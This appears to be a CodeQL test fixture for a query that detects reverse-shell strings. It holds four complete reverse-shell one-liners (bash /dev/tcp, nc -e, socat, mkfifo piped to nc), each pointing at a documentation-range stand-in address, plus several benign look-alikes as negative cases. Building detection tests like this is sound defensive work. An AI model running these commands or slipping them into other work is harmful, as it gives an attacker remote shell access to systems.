# Query-test fixture for ReverseShellString.ql.
# Deliberately malicious-looking strings used as detection test data. This file is
# parsed by the CodeQL extractor only; nothing here is imported, called or executed.
# Addresses are from the 203.0.113.0/24 documentation range.

BASH_TCP = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"  # $ Alert

NC_EXEC = "nc 203.0.113.5 4444 -e /bin/sh"  # $ Alert

SOCAT = "socat tcp:203.0.113.5:4444 exec:'bash -li',pty,stderr,setsid"  # $ Alert

FIFO = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f"  # $ Alert

# Benign look-alikes that must NOT be reported
DOC_LINK = "see /dev/tcp in the bash manual"
NC_SCAN = "nc -z 203.0.113.5 22"
SOCAT_FWD = "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80"
